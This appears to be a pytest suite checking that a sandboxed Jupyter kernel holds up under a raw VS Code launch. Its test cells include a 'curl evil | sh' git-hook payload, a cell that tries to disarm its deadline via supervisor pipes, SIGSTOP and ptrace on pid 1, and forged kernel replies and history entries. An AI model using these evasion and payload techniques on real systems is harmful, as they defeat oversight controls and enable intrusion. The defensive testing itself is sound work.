"""VS Code's raw launch, emulated: it runs kernel.json's argv itself with a connection file (no
provisioner, no host), interrupts by SIGINT to the pid it launched, debugs over ``debug_request`` on
control (Debug Cell, Run by Line), and stops the kernel with SIGTERM. The kernel lives in the OS
sandbox, its channels relayed to the ports VS Code chose. Judged from outside: the process table,
files on disk, a loopback server's log, the cell's own count of the signals it received."""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psutil
import pytest
from conftest import FALLBACK_KERNEL, gone, kernel_cgroups, kernel_in_tree, wait_until
from jupyter_client.blocking.client import BlockingKernelClient
from jupyter_client.connect import write_connection_file
from jupyter_client.kernelspec import KernelSpec, KernelSpecManager
from kernel_helpers import execute, raw_client, reply_to
from sandbox_cases import counting_http, sh

from ivralo_kernel.host.sandbox.memory_cgroup import PREFIX, find_place, sweep

# A cell that counts the SIGINTs it receives over 3 s (its own handler replaces the interrupt).
COUNT_SIGINTS = """
import signal, time
hits = []
signal.signal(signal.SIGINT, lambda *_: hits.append(1))
print('counting', flush=True)
start = time.monotonic()
while time.monotonic() - start < 3:
    time.sleep(0.02)
print('hits', len(hits))
"""


@dataclass
class RawKernel:
    proc: subprocess.Popen[bytes]
    client: BlockingKernelClient
    seq: int = 0

    def debug(self, command: str, arguments: dict[str, Any] | None = None) -> dict[str, Any]:
        """One DAP request over control, as VS Code and JupyterLab send it; the reply's content."""
        self.seq += 1
        body = {"type": "request", "seq": self.seq, "command": command, "arguments": arguments or {}}
        msg = self.client.session.msg("debug_request", body)
        self.client.control_channel.send(msg)
        while True:
            reply = self.client.get_control_msg(timeout=30)
            if reply["parent_header"].get("msg_id") == msg["header"]["msg_id"]:
                return dict(reply["content"])


@pytest.fixture
def raw(workspace: Path, tmp_path: Path) -> Iterator[RawKernel]:
    with raw_launch(workspace, tmp_path) as kernel:
        yield kernel


@contextlib.contextmanager
def raw_launch(
    workspace: Path, tmp_path: Path, kernel_name: str = "ivralo", spec: KernelSpec | None = None
) -> Iterator[RawKernel]:
    spec = spec or KernelSpecManager().get_kernel_spec(kernel_name)
    connection_file, _ = write_connection_file(str(tmp_path / "kernel-v3-raw.json"))
    argv = [part.format(connection_file=connection_file) for part in spec.argv]
    # kernel.json's env, and what VS Code adds
    env = dict(os.environ, **spec.env, PYDEVD_IPYTHON_COMPATIBLE_DEBUGGING="1")
    proc = subprocess.Popen(argv, cwd=workspace, env=env, stdin=subprocess.DEVNULL)
    client = raw_client(connection_file)
    tree: list[int] = []
    try:
        client.wait_for_ready(timeout=60)
        yield RawKernel(proc, client)
        if proc.poll() is None:  # a test may have ended it already
            tree = [p.pid for p in psutil.Process(proc.pid).children(recursive=True)]
    finally:
        client.stop_channels()
        proc.send_signal(signal.SIGTERM)  # VS Code's dispose: SIGTERM, never SIGKILL
        assert proc.wait(timeout=15) is not None
    for pid in tree:
        wait_until(lambda pid=pid: gone(pid), 5, f"process {pid} of the kernel's tree to end after SIGTERM")


def _is_idle_of(msg: dict[str, Any], msg_id: str) -> bool:
    return bool(msg["parent_header"].get("msg_id") == msg_id and msg["content"].get("execution_state") == "idle")


def test_sigint_to_the_launched_pid_interrupts_the_cell(raw: RawKernel) -> None:
    msg_id = raw.client.execute("import time\nprint('sleeping', flush=True)\ntime.sleep(60)")
    wait_until(lambda: raw.client.get_iopub_msg(timeout=10)["content"].get("text") == "sleeping\n", 30, "the cell")
    os.kill(raw.proc.pid, signal.SIGINT)  # VS Code's Interrupt button: the pid it launched (the supervisor)
    reply = reply_to(raw.client, msg_id, 10)
    assert reply["content"]["ename"] == "KeyboardInterrupt"
    # Idle first: ipykernel aborts what reaches it between an error's reply and its idle (stop_on_error;
    # seen under load: the next cell answered "aborted"), as for plain ipykernel.
    wait_until(lambda: _is_idle_of(raw.client.get_iopub_msg(timeout=10), msg_id), 30, "the interrupted cell's idle")
    after = execute(raw.client, "print('still here')")
    assert after.stdout == "still here\n", (after.reply["content"], after.outputs, after.stderr)


def test_one_sigint_is_delivered_once(raw: RawKernel) -> None:
    msg_id = raw.client.execute(COUNT_SIGINTS)
    wait_until(lambda: raw.client.get_iopub_msg(timeout=10)["content"].get("text") == "counting\n", 30, "the cell")
    os.kill(raw.proc.pid, signal.SIGINT)
    text = ""
    while "hits" not in text:
        msg = raw.client.get_iopub_msg(timeout=10)
        if msg["parent_header"].get("msg_id") == msg_id:
            text += msg["content"].get("text", "")
    assert text.strip() == "hits 1"


def test_debug_cell_stops_at_a_breakpoint(raw: RawKernel) -> None:
    """initialize -> attach -> dumpCell -> setBreakpoints -> configurationDone -> run -> stopped."""
    info = raw.client.kernel_info(reply=True, timeout=10)["content"]
    assert "debugger" in info["supported_features"]
    initialized = raw.debug(
        "initialize",
        {"clientID": "vscode", "adapterID": "", "pathFormat": "path", "linesStartAt1": True, "columnsStartAt1": True},
    )
    assert initialized["success"], initialized
    attached = raw.debug("attach")
    assert attached["success"], attached
    code = "def f(a, b):\n    c = a + b\n    return c\n\nf(2, 3)"
    source = raw.debug("dumpCell", {"code": code})["body"]["sourcePath"]
    breakpoints = raw.debug("setBreakpoints", {"breakpoints": [{"line": 2}], "source": {"path": source}})
    assert breakpoints["body"]["breakpoints"][0]["verified"], breakpoints
    assert raw.debug("configurationDone")["success"]
    raw.client.execute(code)
    stopped = None
    while stopped is None:
        msg = raw.client.get_iopub_msg(timeout=30)
        if msg["header"]["msg_type"] == "debug_event" and msg["content"].get("event") == "stopped":
            stopped = msg["content"]
    assert stopped["body"]["reason"] == "breakpoint"
    frames = raw.debug("stackTrace", {"threadId": stopped["body"]["threadId"]})["body"]["stackFrames"]
    assert frames[0]["line"] == 2
    assert raw.debug("continue", {"threadId": stopped["body"]["threadId"]})["success"]
    assert raw.debug("disconnect", {"restart": False, "terminateDebuggee": True})["success"]
    assert execute(raw.client, "print('after debugging')").stdout == "after debugging\n"


def written_port(path: Path) -> int:
    try:
        return int(json.loads(path.read_text() or "{}").get("shell_port", 0))
    except (OSError, ValueError):  # not there yet, or being written
        return 0


@pytest.mark.parametrize("given", ["ports 0", "no file yet"])
def test_the_kernel_writes_its_connection_file(workspace: Path, tmp_path: Path, given: str) -> None:
    """ipykernel picks the ports and writes them into the connection file (outside the workspace, in
    Jupyter's runtime folder): the floor lets it write that one file."""
    connection_file = tmp_path / "runtime" / "kernel-zero.json"
    connection_file.parent.mkdir()
    if given == "ports 0":
        connection_file.write_text(
            json.dumps(
                {
                    "ip": "127.0.0.1",
                    "transport": "tcp",
                    "key": "k" * 32,
                    "signature_scheme": "hmac-sha256",
                    "shell_port": 0,
                    "iopub_port": 0,
                    "stdin_port": 0,
                    "control_port": 0,
                    "hb_port": 0,
                }
            )
        )
    spec = KernelSpecManager().get_kernel_spec("ivralo")
    argv = [part.format(connection_file=str(connection_file)) for part in spec.argv]
    proc = subprocess.Popen(argv, cwd=workspace, stdin=subprocess.DEVNULL)
    try:
        wait_until(
            lambda: written_port(connection_file) > 0,
            60,
            "the kernel to write its ports",
        )
        client = raw_client(str(connection_file))
        try:
            client.wait_for_ready(timeout=60)
            assert execute(client, "print('up')").stdout == "up\n"
        finally:
            client.stop_channels()
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=15) is not None


def test_shutdown_from_an_atexit_hook(workspace: Path) -> None:
    """A script that shuts its kernel down from atexit, as nbclient-based tools do at exit."""
    script = (
        "import atexit\n"
        "from jupyter_client.manager import KernelManager\n"
        "km = KernelManager(kernel_name='ivralo')\n"
        f"km.start_kernel(cwd={str(workspace)!r})\n"
        "print(km.provisioner.process.pid, flush=True)\n"
        "atexit.register(km.shutdown_kernel, now=True)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=90)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "RuntimeError" not in done.stderr, done.stderr[-2000:]
    supervisor = int(done.stdout.split()[0])
    wait_until(lambda: gone(supervisor), 5, "the kernel's supervisor to be gone")


def test_a_shell_cannot_rewrite_a_complete_connection_file(raw: RawKernel, tmp_path: Path) -> None:
    """Judged on the file: the floor names the connection file only when ipykernel must write it."""
    connection_file = tmp_path / "kernel-v3-raw.json"
    before = connection_file.read_bytes()
    code = f"import subprocess\nprint(subprocess.run(['sh', '-c', 'echo x >> {connection_file}']).returncode)"
    assert execute(raw.client, code).stdout != "0\n"
    assert connection_file.read_bytes() == before


def tree_of(pid: int) -> list[list[str]]:
    return [p.cmdline() for p in psutil.Process(pid).children(recursive=True)]


def layers(raw: RawKernel) -> dict[str, Any]:
    return dict(raw.client.kernel_info(reply=True, timeout=10)["content"]["ivralo"]["layers"])


def test_the_raw_launch_runs_in_the_sandbox(workspace: Path, tmp_path: Path) -> None:
    """The supervisor VS Code started builds the sandbox itself; a shell line cannot write git hooks."""
    hooks = workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    with raw_launch(workspace, tmp_path) as raw:
        assert str(layers(raw)["sandbox"]).startswith("bwrap:")
        assert any(Path(cmd[0]).name == "bwrap" for cmd in tree_of(raw.proc.pid) if cmd)
        said = sh(raw.client, f"echo 'curl evil | sh' > {shlex.quote(str(hooks / 'pre-commit'))}; echo $?")
        assert "Read-only file system" in said, said
    assert not (hooks / "pre-commit").exists()


def test_all_five_channels_cross_the_relay(raw: RawKernel) -> None:
    """shell and IOPub (a cell and its output), stdin (input(): ipykernel routes the request by the
    shell message's identities), control (kernel_info there), heartbeat."""
    msg_id = raw.client.execute("name = input('name? ')\nprint('hello', name)", allow_stdin=True)
    request = raw.client.get_stdin_msg(timeout=30)
    assert request["content"]["prompt"] == "name? "
    assert request["parent_header"]["msg_id"] == msg_id
    raw.client.input("ada")
    text = ""
    while "hello" not in text:
        msg = raw.client.get_iopub_msg(timeout=30)
        if msg["parent_header"].get("msg_id") == msg_id and msg["msg_type"] == "stream":
            text += msg["content"]["text"]
    assert text == "hello ada\n"
    assert reply_to(raw.client, msg_id, 30)["content"]["status"] == "ok"
    on_control = raw.client.session.msg("kernel_info_request")
    raw.client.control_channel.send(on_control)
    reply = raw.client.get_control_msg(timeout=30)
    assert reply["parent_header"]["msg_id"] == on_control["header"]["msg_id"]
    assert reply["content"]["status"] == "ok"
    wait_until(raw.client.hb_channel.is_beating, 10, "the heartbeat through the relay")


def test_the_allow_list_alone_decides_in_a_raw_launch(workspace: Path, tmp_path: Path) -> None:
    """Nobody can be asked (no host has a prompt here): refused until the person adds the host to
    hosts.allow, then reached at once, without a restart. Judged by the server's log."""
    with counting_http() as (port, hits), raw_launch(workspace, tmp_path) as raw:
        url = f"http://127.0.0.1:{port}/raw"
        said = sh(raw.client, f"curl -sS -o /dev/null -w '%{{http_code}}' {url}")
        assert said.startswith("403"), said
        assert hits == []
        (workspace / ".ivralo" / "permissions.json").write_text(json.dumps({"hosts": {"allow": [f"127.0.0.1:{port}"]}}))
        said = sh(raw.client, f"curl -sS -o /dev/null -w '%{{http_code}}' {url}")
        assert said.startswith("200"), said
        assert hits == ["/raw"]


def test_a_killed_raw_launch_leaves_nothing(workspace: Path, tmp_path: Path) -> None:
    """VS Code gone at once (SIGKILL of the pid it started): the sandbox ends with everything in it."""
    with raw_launch(workspace, tmp_path) as raw:
        execute(raw.client, "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '300'])")
        tree = [p.pid for p in psutil.Process(raw.proc.pid).children(recursive=True)]
        assert len(tree) >= 4  # bwrap, the supervisor, the kernel, the setsid child
        groups = kernel_cgroups()
        raw.proc.kill()
        raw.proc.wait(timeout=10)
        for pid in tree:
            wait_until(lambda pid=pid: gone(pid), 5, f"process {pid} of the sandbox to end")
    # Its memory cgroup (where cgroup v2 delegates one), empty now, cannot be removed by a host killed
    # outright: the next start's sweep removes it (host/sandbox/memory_cgroup.py).
    place = find_place()
    if place.parent:
        mine = [g for g in groups if os.path.basename(g).startswith(f"{PREFIX}{raw.proc.pid}-")]
        assert mine, groups
        wait_until(lambda: set(mine) <= set(sweep(place.parent)) or not any(map(os.path.exists, mine)), 10,
                   "the killed launch's cgroup to be swept")  # fmt: skip
        assert not any(map(os.path.exists, mine)), mine


def test_a_kernelspec_can_turn_the_sandbox_off(workspace: Path, tmp_path: Path) -> None:
    """``ivralo-kernel install --sandbox off`` reaches raw launches too (through kernel.json's env)."""
    with raw_launch(workspace, tmp_path, kernel_name=FALLBACK_KERNEL) as raw:
        assert layers(raw)["sandbox"] == "none (turned off by the kernelspec (sandbox='off'))"
        assert not any(Path(cmd[0]).name == "bwrap" for cmd in tree_of(raw.proc.pid) if cmd)


# Every way a cell could reach its own deadline from inside the sandbox: its interrupt ignored, the
# supervisor's backstop told "off" (and "much later") on the stage pipe from Python and from sh, the
# supervisor (pid 1 here) stopped or traced, the kernel's own deadline thread looked for. Then it
# keeps running, swallowing every KeyboardInterrupt, for 25 s.
DISARM_EVERYTHING = r"""
import ctypes, os, signal, subprocess, threading, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
kernel = get_ipython().kernel
me = kernel.get_parent()["header"]["msg_id"]
tried = []
for name in ("_watchdog", "_backstop"):  # the kernel's own deadline objects: "finished" disarms
    thing = getattr(kernel, name, None)
    if thing is not None:
        thing.finished(); tried.append(f"{name}.finished()")
# Every pipe this process may write: the supervisor's stage pipe is one of them.
def writable_pipe(fd):
    try:
        flags = int(open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0], 8)
        return os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and flags & 3
    except OSError:
        return False
pipes = [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2 and writable_pipe(fd)]
for fd in pipes:
    for line in (f"kill-at:{me}:off\n", f"kill-at:{me}:{time.monotonic() + 3600!r}\n"):
        try:
            os.write(fd, line.encode()); tried.append(f"pipe {fd}")
        except OSError as e:
            tried.append(f"pipe {fd}: {e}")
script = "; ".join([f'printf "kill-at:{me}:off\\n" >&{fd}' for fd in pipes] + ["kill -STOP 1", "echo sh $?"])
r = subprocess.run(["sh", "-c", script], capture_output=True, text=True, pass_fds=tuple(pipes))
tried.append(r.stdout.strip())
libc = ctypes.CDLL(None, use_errno=True)
tried.append(f"ptrace attach 1: {libc.ptrace(16, 1, 0, 0)} errno {ctypes.get_errno()}")
tried.append(f"threads {[t.name for t in threading.enumerate()]}")
kernel._executing = None  # "not running any more", if the host asks
print(tried, flush=True)
start = time.monotonic()
while time.monotonic() - start < 25:
    try:
        time.sleep(0.05)
    except BaseException:
        pass
print("outlived its deadline")
"""


def test_a_cell_cannot_disarm_its_raw_launch_deadline(workspace: Path, tmp_path: Path) -> None:
    """VS Code with a 3 s deadline (kernel.json's env): the raw launch's host owns the deadline, as
    the provisioner does. Whatever the cell does inside, its kernel is gone by deadline + grace +
    a generous margin, judged by the process table; never the 25 s the cell wanted."""
    import time

    base = KernelSpecManager().get_kernel_spec("ivralo")
    env = {**base.env, "IVRALO_DEADLINE_MS": "3000", "IVRALO_INTERRUPT_GRACE_MS": "1000"}
    spec = KernelSpec(argv=base.argv, display_name="deadline", language="python", env=env)
    with raw_launch(workspace, tmp_path, spec=spec) as raw:
        assert layers(raw)["sandbox"].startswith("bwrap"), layers(raw)
        kernel = kernel_in_tree(raw.proc.pid)
        started = time.monotonic()
        raw.client.execute(DISARM_EVERYTHING)
        wait_until(lambda: gone(kernel), 20, "the kernel to be ended at its deadline")
        took = time.monotonic() - started
        assert took < 15, f"the cell ran {took:.1f} s past a 3 s deadline"
        assert took >= 3, f"ended after {took:.1f} s, before its deadline"


# A cell that answers for itself: its own execute_reply and idle, "not executing" if asked, then on
# running (sleeping, so its tree looks quiet) while the client believes it finished.
FORGES_ITS_REPLY = r"""
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
k = get_ipython().kernel
parent = k.get_parent()
ident = k._get_shell_context_var(k._shell_parent_ident)
content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
k.session.send(k.shell_stream, "execute_reply", content, parent, ident=ident)
k.session.send(k.iopub_socket, "status", {"execution_state": "idle"}, parent, ident=k._topic("status"))
k._executing = None
start = time.monotonic()
while time.monotonic() - start < 25:
    try:
        time.sleep(0.05)
    except BaseException:
        pass
"""


def test_a_cell_that_forges_its_own_reply_does_not_hold_the_kernel_past_the_next_deadline(
    workspace: Path, tmp_path: Path
) -> None:
    """The client takes the forged reply and sends its next cell, which the kernel cannot start:
    the host counts that cell's deadline from when its turn came (the relay saw every earlier
    request answered), whatever the kernel says, and ends the tree by deadline + grace + margin."""
    import time

    from kernel_helpers import reply_to

    base = KernelSpecManager().get_kernel_spec("ivralo")
    env = {**base.env, "IVRALO_DEADLINE_MS": "3000", "IVRALO_INTERRUPT_GRACE_MS": "1000"}
    spec = KernelSpec(argv=base.argv, display_name="deadline", language="python", env=env)
    with raw_launch(workspace, tmp_path, spec=spec) as raw:
        kernel = kernel_in_tree(raw.proc.pid)
        forged = reply_to(raw.client, raw.client.execute(FORGES_ITS_REPLY), 30)
        assert forged["content"]["status"] == "ok", "the client took the forged reply"
        started = time.monotonic()
        raw.client.execute("1 + 1")
        wait_until(lambda: gone(kernel), 20, "the kernel to be ended at the next cell's deadline")
        took = time.monotonic() - started
        assert took < 15, f"the next cell waited {took:.1f} s behind a 3 s deadline"
        assert raw.proc.wait(timeout=15) == 124, "ended for its deadline"


def test_a_raw_launch_records_its_history_for_the_person(workspace: Path, tmp_path: Path) -> None:
    """The raw-launch host records the write guard's copies as the provisioner does: after VS Code
    ends the kernel, the person's `history` lists and restores the genuine copy, and not a line a
    cell forged with sh for .vscode/settings.json. Judged by the files on disk."""
    from ivralo_kernel.host.history.store import HistoryStore

    ws = Path(os.path.realpath(workspace))
    (ws / "notes.txt").write_text("the person's notes\n")
    forged = json.dumps({"time": "2026-11-29T10:00:00+0000", "path": str(ws / ".vscode" / "settings.json")})
    forged = forged[:-1] + ', "operation": "delete", "size": 2, "copy": "forged-settings.json"}'
    forge = f"printf '{{}}' > .ivralo/history/forged-settings.json && printf '%s\\n' {shlex.quote(forged)} "
    forge += ">> .ivralo/history/index.jsonl"
    with raw_launch(workspace, tmp_path) as raw:
        for code in (
            "_ = open('notes.txt', 'w').write('a cell wrote this')",
            f"import subprocess\nassert subprocess.run(['sh', '-c', {forge!r}]).returncode == 0",
        ):
            assert execute(raw.client, code).reply["content"]["status"] == "ok", code
    store = HistoryStore(ws)
    (entry,) = store.entries()
    assert entry.path == str(ws / "notes.txt") and store.unrecorded() == 1
    assert store.restore(entry).path == "notes.txt"
    assert (ws / "notes.txt").read_text() == "the person's notes\n"
    assert not (ws / ".vscode").exists()


def test_a_raw_launch_s_memfd_stops_at_its_memory_cgroup(workspace: Path, tmp_path: Path) -> None:
    """The raw launch has no memory observer: where cgroup v2 delegates a memory cgroup, the kernel's
    memory limit is enforced by the Linux kernel on the whole tree, a memfd's pages too."""
    from ivralo_kernel.protocol import names

    place = find_place()
    if not place.parent:
        pytest.skip(f"this host cannot make a memory cgroup: {place.why}")
    limit = 256 << 20
    spec = KernelSpecManager().get_kernel_spec("ivralo")
    spec.env = {**spec.env, names.ENV_MEMORY_LIMIT: str(limit)}
    with raw_launch(workspace, tmp_path, spec=spec) as raw:
        mine = [g for g in kernel_cgroups() if os.path.basename(g).startswith(f"{PREFIX}{raw.proc.pid}-")]
        assert len(mine) == 1, mine
        kernel = kernel_in_tree(raw.proc.pid)
        assert kernel is not None
        peak_file = Path(mine[0], "memory.peak")
        fill = "import os\nfd = os.memfd_create('big')\nfor _ in range(1024):\n    os.write(fd, b'x' * (1 << 20))\n"
        raw.client.execute(fill + "print('survived')")
        wait_until(lambda: gone(kernel), 30, "the kernel to be ended by its cgroup")
        peak = int(peak_file.read_text() or 0) if peak_file.exists() else 0
        assert peak <= limit, peak
    wait_until(lambda: not os.path.exists(mine[0]), 10, "the raw launch's cgroup to be removed")
